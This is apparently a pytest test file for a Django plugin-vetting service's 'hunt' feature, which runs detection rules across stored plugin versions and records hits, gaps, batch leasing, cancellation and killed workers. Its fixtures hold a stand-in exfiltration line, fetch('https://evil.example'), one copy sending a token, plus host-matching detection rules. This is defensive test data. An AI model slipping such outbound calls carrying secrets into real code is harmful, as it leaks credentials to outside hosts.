"""Hunts: every version is looked at once or listed as not answered, whoever dies on the way."""

import datetime as dt
import os
import signal
import time
from dataclasses import replace

import pytest
from django.utils import timezone
from django_q.models import OrmQ

from certification.enums import RevalidationTrigger
from certification.models import Revalidation
from governance.models import LedgerEntry
from plugins.enums import HuntScope, HuntState, RuleState, RunState, Trigger, VersionState
from plugins.models import Hunt, HuntBatch, HuntGap, HuntHit, Observation, artifact_storage
from plugins.services import hunting, hunts, release_batches, release_sweeps
from plugins.services.detection import change_draft
from plugins.services.hunts import HuntRefused
from plugins.tasks import hunt_batch
from plugins.work import work_folder
from tests.factories import (
    ArtifactFactory,
    ComponentFactory,
    DetectionRuleFactory,
    FindingFactory,
    PluginVersionFactory,
    UserFactory,
    VettingRunFactory,
)
from tests.plugins.detection.rule_cases import NEVER_ENDS
from tests.plugins.services.test_detection import CONTENT
from tests.support.certified import certified
from tests.support.packages import npm_package
from tests.support.races import at_once, in_a_process

pytestmark = pytest.mark.django_db

NOW = timezone.now()


def version(text="fetch('https://evil.example')\n", **more):
    """A stored version whose only code file holds the text."""
    number = version.number = getattr(version, "number", 0) + 1
    content = npm_package(files={"index.js": text.encode(), "number.txt": str(number).encode()})
    return PluginVersionFactory(artifact=ArtifactFactory.stored(content, filename=f"p-{number}.tgz"), **more)


def hunt(rule=None, scope=HuntScope.ALL, actor=None):
    return hunts.start_hunt(rule=rule or DetectionRuleFactory.in_use(), scope=scope, actor=actor or UserFactory())


def carried_out(found):
    for batch in HuntBatch.objects.filter(hunt=found):
        hunts.execute_batch(batch_id=batch.pk)
    found.refresh_from_db()
    return found


def counters(found):
    found.refresh_from_db()
    return found.state, found.total, found.done, found.hit_versions, found.errors


def test_a_hunt_looks_through_every_version_and_says_where():
    hit = version()
    version("console.log(1)\n")

    found = carried_out(hunt())

    assert counters(found) == (HuntState.DONE, 2, 2, 1, 0)
    (row,) = HuntHit.objects.all()
    assert (row.version, row.path, row.line, row.excerpt) == (hit, "index.js", 1, "fetch('https://evil.example')")
    verbs = list(LedgerEntry.objects.about(found).order_by("pk").values_list("verb", flat=True))
    assert verbs == ["hunt.started", "hunt.done"]
    assert found.reason == "1 of 2 versions are hit, 0 could not be answered."


def test_a_draft_can_be_hunted_before_it_goes_anywhere():
    version()

    assert counters(carried_out(hunt(DetectionRuleFactory()))) == (HuntState.DONE, 1, 1, 1, 0)


def test_a_draft_that_changes_meanwhile_ends_the_hunt():
    version()
    rule = DetectionRuleFactory()
    found = hunt(rule)
    change_draft(rule=rule, content=replace(CONTENT, title="Another"), actor=UserFactory())

    carried_out(found)

    assert (found.state, HuntHit.objects.count()) == (HuntState.FAILED, 0)
    assert "was changed while it was hunted" in found.reason
    assert not HuntBatch.objects.unfinished().exists()


def test_an_unreadable_package_is_not_clean_it_is_not_known():
    lost, damaged, good = version(), version(), version()
    artifact_storage().delete(lost.artifact.storage_name)
    artifact_storage().delete(damaged.artifact.storage_name)
    with artifact_storage().open(damaged.artifact.storage_name, "wb") as file:
        file.write(b"something else")

    found = carried_out(hunt())

    assert counters(found) == (HuntState.DONE, 3, 3, 1, 2)
    assert set(HuntGap.objects.values_list("version", flat=True)) == {lost.pk, damaged.pk}
    assert "altered" in HuntGap.objects.get(version=damaged).reason
    assert HuntHit.objects.get().version == good


def test_a_rule_that_never_ends_answers_for_nothing(monkeypatch):
    monkeypatch.setattr("plugins.detection.searching.FILE_SECONDS", 1)
    version()

    found = carried_out(hunt(DetectionRuleFactory.in_use(kind="yara", body=NEVER_ENDS)))

    assert counters(found) == (HuntState.DONE, 1, 1, 0, 1)
    assert "took longer than 1 seconds" in HuntGap.objects.get().reason


def test_no_text_is_kept_of_a_file_that_holds_credentials():
    holder = version("fetch('https://evil.example', {token: 'very-secret'})\n")
    FindingFactory(run=VettingRunFactory(version=holder, evidence=False), check_code="secrets", path="index.js")
    version()

    carried_out(hunt())

    texts = dict(HuntHit.objects.values_list("version", "excerpt"))
    assert "credentials were found in this file" in texts.pop(holder.pk)
    assert list(texts.values()) == ["fetch('https://evil.example')"]


def test_a_batch_that_takes_long_ends_and_its_rest_waits(monkeypatch):
    monkeypatch.setattr(hunts, "LONG_ENOUGH", 0)
    for _ in range(3):
        version()
    found = hunt()
    batch = HuntBatch.objects.get()

    hunts.execute_batch(batch_id=batch.pk)

    assert counters(found) == (HuntState.RUNNING, 3, 1, 1, 0)
    hunts.execute_batch(batch_id=batch.pk)
    hunts.execute_batch(batch_id=batch.pk)
    assert counters(found) == (HuntState.DONE, 3, 3, 3, 0)
    assert HuntHit.objects.values("version").distinct().count() == HuntHit.objects.count() == 3


def test_hits_of_one_version_are_bounded_and_counted(monkeypatch):
    monkeypatch.setattr(hunts, "HITS_A_VERSION", 3)
    version("evil.example\n" * 40)

    carried_out(hunt())

    assert [row.more for row in HuntHit.objects.all()] == [0, 0, 37]


def test_only_certified_versions_are_looked_through_if_asked(policy):
    version(), version(state=VersionState.APPROVED)

    assert counters(hunt(scope=HuntScope.CERTIFIED))[1] == 1


def test_what_cannot_be_hunted_is_said():
    retired = DetectionRuleFactory(state=RuleState.RETIRED)
    with pytest.raises(HuntRefused, match="no version to look through"):
        hunt()
    version()
    with pytest.raises(HuntRefused, match="retired"):
        hunt(retired)
    rule = DetectionRuleFactory.in_use()
    hunt(rule)
    with pytest.raises(HuntRefused, match="hunted already"):
        hunt(rule)


def test_a_batch_that_ended_is_not_carried_out_again():
    version()
    found = carried_out(hunt())

    carried_out(found)

    assert (HuntHit.objects.count(), counters(found)) == (1, (HuntState.DONE, 1, 1, 1, 0))


def test_a_batch_in_anothers_hands_is_left_to_them():
    version()
    batch = HuntBatch.objects.get(hunt=hunt())
    hunts._take_up(batch.pk)

    assert hunts.execute_batch(batch_id=batch.pk) is None
    assert not HuntHit.objects.exists()


def test_the_result_of_a_worker_that_was_overtaken_is_dropped():
    version()
    batch = HuntBatch.objects.get(hunt=hunt())
    late = hunts._take_up(batch.pk)
    HuntBatch.objects.update(lease_until=NOW - dt.timedelta(minutes=1))
    hunts.execute_batch(batch_id=batch.pk)

    assert hunts._conclude(late, {}) is None
    assert HuntHit.objects.count() == 1


def test_a_hunt_that_is_stopped_keeps_what_it_found_and_goes_no_further(monkeypatch):
    monkeypatch.setattr(hunts, "PACKAGES", 1)
    version(), version()
    found = hunt()
    first, second = HuntBatch.objects.order_by("number")
    hunts.execute_batch(batch_id=first.pk)

    hunts.cancel_hunt(hunt=found, actor=UserFactory())

    assert hunts.execute_batch(batch_id=second.pk) is None
    assert counters(found) == (HuntState.CANCELLED, 2, 1, 1, 0)
    assert found.reason == "Stopped after 1 of 2 versions."
    with pytest.raises(HuntRefused, match="ended already"):
        hunts.cancel_hunt(hunt=found, actor=UserFactory())


def test_a_hunt_stopped_while_a_batch_is_under_way_writes_nothing_more():
    version()
    found = hunt()
    batch = hunts._take_up(HuntBatch.objects.get().pk)
    hunts.cancel_hunt(hunt=found, actor=UserFactory())

    assert hunts._answers(batch, hunts.as_rule(found.rule)) is None
    assert not HuntHit.objects.exists()


def test_versions_at_which_workers_die_again_and_again_are_not_answered():
    some = version()
    found = hunt()
    HuntBatch.objects.update(state=HuntState.RUNNING, attempts=3, lease_until=NOW, released_at=NOW)

    hunts.requeue_lost_batches(now=NOW + dt.timedelta(minutes=3))

    assert counters(found) == (HuntState.DONE, 1, 1, 0, 1)
    assert HuntGap.objects.get(version=some).reason == "The worker was lost 3 times at these versions."


# --- whose turn it is -------------------------------------------------------------------------------------------------


@pytest.fixture
def tasks(django_capture_on_commit_callbacks):
    def queued(call, **arguments):
        OrmQ.objects.all().delete()
        with django_capture_on_commit_callbacks(execute=True):
            call(**arguments)
        return [entry.task["func"].rpartition(".")[2] for entry in OrmQ.objects.order_by("pk")]

    return queued


def waiting_batches(monkeypatch, number=3):
    monkeypatch.setattr(hunts, "PACKAGES", 1)
    for _ in range(number):
        PluginVersionFactory()
    return hunt()


def test_one_batch_at_a_time_is_handed_to_the_workers(tasks, monkeypatch, settings):
    settings.SWEEP_RUNS = 1

    assert tasks(waiting_batches, monkeypatch=monkeypatch) == ["hunt_batch"]
    assert tasks(release_batches, now=NOW) == []
    assert tasks(release_sweeps, now=NOW) == []


def test_a_batch_that_ended_hands_the_next_one_on(tasks, monkeypatch, settings):
    settings.SWEEP_RUNS = 1
    waiting_batches(monkeypatch)

    assert tasks(hunts.execute_batch, batch_id=HuntBatch.objects.earliest("number").pk) == ["hunt_batch"]


def test_an_owner_does_not_wait_behind_a_hunt(tasks, monkeypatch, settings):
    settings.SWEEP_RUNS = 2
    VettingRunFactory(queued=True, trigger=Trigger.SUBMISSION, released_at=NOW, version__state=VersionState.VETTING)

    assert tasks(waiting_batches, monkeypatch=monkeypatch) == []

    long_after = NOW + dt.timedelta(hours=2)
    assert tasks(release_batches, now=long_after) == ["hunt_batch", "hunt_batch"]


def test_sweeps_and_hunts_share_the_room(tasks, monkeypatch, settings):
    settings.SWEEP_RUNS = 1
    VettingRunFactory(running=True, trigger=Trigger.SCHEDULE, released_at=NOW, version__state=VersionState.VETTING)

    assert tasks(waiting_batches, monkeypatch=monkeypatch) == []


def test_the_watchdog_takes_up_what_no_worker_took(tasks, monkeypatch, settings):
    settings.SWEEP_RUNS = 1
    waiting_batches(monkeypatch)

    assert tasks(hunts.requeue_lost_batches, now=timezone.now() + dt.timedelta(minutes=3)) == ["hunt_batch"]


def test_the_workers_carry_a_hunt_out_batch_after_batch(run_tasks, monkeypatch, settings):
    settings.SWEEP_RUNS = 1
    monkeypatch.setattr(hunts, "PACKAGES", 1)
    for _ in range(3):
        version()

    with run_tasks():
        found = hunt()

    assert counters(found) == (HuntState.DONE, 3, 3, 3, 0)
    assert hunt_batch(batch_id=HuntBatch.objects.first().pk).endswith("nothing to do")


# --- out of the database ----------------------------------------------------------------------------------------------


def test_hosts_are_looked_up_in_what_runs_observed(django_assert_num_queries):
    runs = [VettingRunFactory(evidence=False) for _ in range(3)]
    Observation.objects.create(run=runs[0], kind="host", value="cdn.evil.example", path="a.js", line=4, snippet="x")
    Observation.objects.create(run=runs[1], kind="host", value="notevil.example", path="a.js", line=4)
    rule = DetectionRuleFactory.in_use(kind="host", body="*.evil.example\n")

    with django_assert_num_queries(4):
        answers = hunting.look_up(hunts.as_rule(rule), [run.version for run in runs])

    assert [(hit.path, hit.line) for hit in answers[runs[0].version_id].hits] == [("a.js", 4)]
    assert not answers[runs[1].version_id].hits
    assert not any(answer.gap for answer in answers.values())


def test_a_host_that_only_the_manifest_names_is_found():
    run = VettingRunFactory(evidence=False)
    document = {**run.report, "egress": [{"host": "evil.example", "derived": True, "evidence": []}]}
    run = VettingRunFactory(evidence=False, version=run.version, report=document)
    rule = DetectionRuleFactory.in_use(kind="host", body="evil.example")

    found = carried_out(hunt(rule))

    assert counters(found) == (HuntState.DONE, 1, 1, 1, 0)
    assert HuntHit.objects.get().excerpt == "evil.example, as declared or in the manifest"


def test_dependencies_are_looked_up_with_their_versions():
    hit, fixed, undecided, dev = (VettingRunFactory(evidence=False) for _ in range(4))
    rows = ((hit, "1.2.0", "runtime"), (fixed, "1.3.0", "runtime"), (dev, "1.2.0", "dev"))
    for run, pinned, scope in rows:
        ComponentFactory(run=run, ecosystem="npm", name="left-pad", requirement=pinned, pinned=pinned, scope=scope)
    ComponentFactory(
        run=undecided, ecosystem="npm", name="left-pad", requirement="git+https://git.example/x.git", pinned=""
    )
    rule = DetectionRuleFactory.in_use(kind="dependency", body="npm:left-pad <1.3")

    found = carried_out(hunt(rule))

    assert counters(found) == (HuntState.DONE, 4, 4, 1, 1)
    assert HuntHit.objects.get().version == hit.version
    assert HuntGap.objects.get().version == undecided.version


def test_what_no_run_answered_is_not_clean():
    PluginVersionFactory()
    silent = VettingRunFactory(evidence=False)
    silent.checks.create(code="static", status="inconclusive", reason="It crashed.", examined=0, duration_ms=1)

    found = carried_out(hunt(DetectionRuleFactory.in_use(kind="host", body="evil.example")))

    assert counters(found) == (HuntState.DONE, 2, 2, 0, 2)
    assert {gap.reason for gap in HuntGap.objects.all()} == {
        "No vetting run of it came to an end.",
        "The check static gave no result in its last run.",
    }


# --- what follows -----------------------------------------------------------------------------------------------------


def test_certified_versions_that_are_hit_can_be_sent_to_revalidation(policy):
    certificate = certified(policy)
    run = certificate.run
    host = Observation.objects.filter(run=run, kind="host").first().value
    PluginVersionFactory()
    rule = DetectionRuleFactory.in_use(kind="host", body=host)
    found = carried_out(hunt(rule))
    assert list(hunts.certified_hits(found)) == [certificate.version]

    assert hunts.ask_revalidation(hunt=found, actor=UserFactory()) == 1

    (started,) = Revalidation.objects.all()
    assert (started.trigger, started.run.trigger) == (RevalidationTrigger.DETECTION, Trigger.DETECTION)
    assert started.reason == f"Hit by the detection rule {rule}."
    assert started.run.state == RunState.QUEUED
    assert hunts.ask_revalidation(hunt=found, actor=UserFactory()) == 0  # it is under way


def test_a_rule_on_trial_sends_nobody_to_revalidation(policy):
    certified(policy)
    found = carried_out(hunt(DetectionRuleFactory.in_use(RuleState.MONITOR, kind="host", body="api.acme.example")))

    with pytest.raises(HuntRefused, match="in force first"):
        hunts.ask_revalidation(hunt=found, actor=UserFactory())


# --- a worker that is killed ------------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_a_worker_killed_in_the_middle_loses_nothing_and_doubles_nothing(monkeypatch, tmp_path):
    for _ in range(5):
        version()
    found, reached, look = hunt(), tmp_path / "reached", hunting.look
    batch = HuntBatch.objects.get()

    def third_takes_long(rule, one):
        if one.pk == batch.versions[2]:
            with work_folder("hunt"):
                reached.touch()
                time.sleep(60)
        return look(rule, one)

    with monkeypatch.context() as patch:
        patch.setattr(hunts, "look", third_takes_long)
        worker = in_a_process(lambda: hunts.execute_batch(batch_id=batch.pk))
        for _ in range(300):
            if reached.exists():
                break
            time.sleep(0.1)
        os.kill(worker, signal.SIGKILL)
        _, status = os.waitpid(worker, 0)

    assert os.waitstatus_to_exitcode(status) == -signal.SIGKILL
    assert (counters(found)[0], HuntHit.objects.count()) == (HuntState.RUNNING, 0)
    assert hunts.execute_batch(batch_id=batch.pk) is None  # its lease still runs
    later = timezone.now() + dt.timedelta(minutes=2)
    assert hunts.requeue_lost_batches(now=later) == 1
    HuntBatch.objects.update(lease_until=timezone.now())
    hunts.execute_batch(batch_id=batch.pk)

    assert counters(found) == (HuntState.DONE, 5, 5, 5, 0)
    assert sorted(HuntHit.objects.values_list("version_id", flat=True)) == sorted(batch.versions)


@pytest.mark.django_db(transaction=True)
def test_two_workers_on_one_hunt_end_it_once(monkeypatch):
    monkeypatch.setattr(hunts, "PACKAGES", 1)
    for _ in range(4):
        version()
    found = hunt()
    ids = list(HuntBatch.objects.values_list("pk", flat=True))

    def work():
        for pk in ids:
            hunts.execute_batch(batch_id=pk)

    assert at_once(work, work) == [None, None]
    assert counters(found) == (HuntState.DONE, 4, 4, 4, 0)
    assert HuntHit.objects.count() == 4
    assert LedgerEntry.objects.about(found).filter(verb="hunt.done").count() == 1
    assert Hunt.history.filter(id=found.pk, state="done").count() == 1
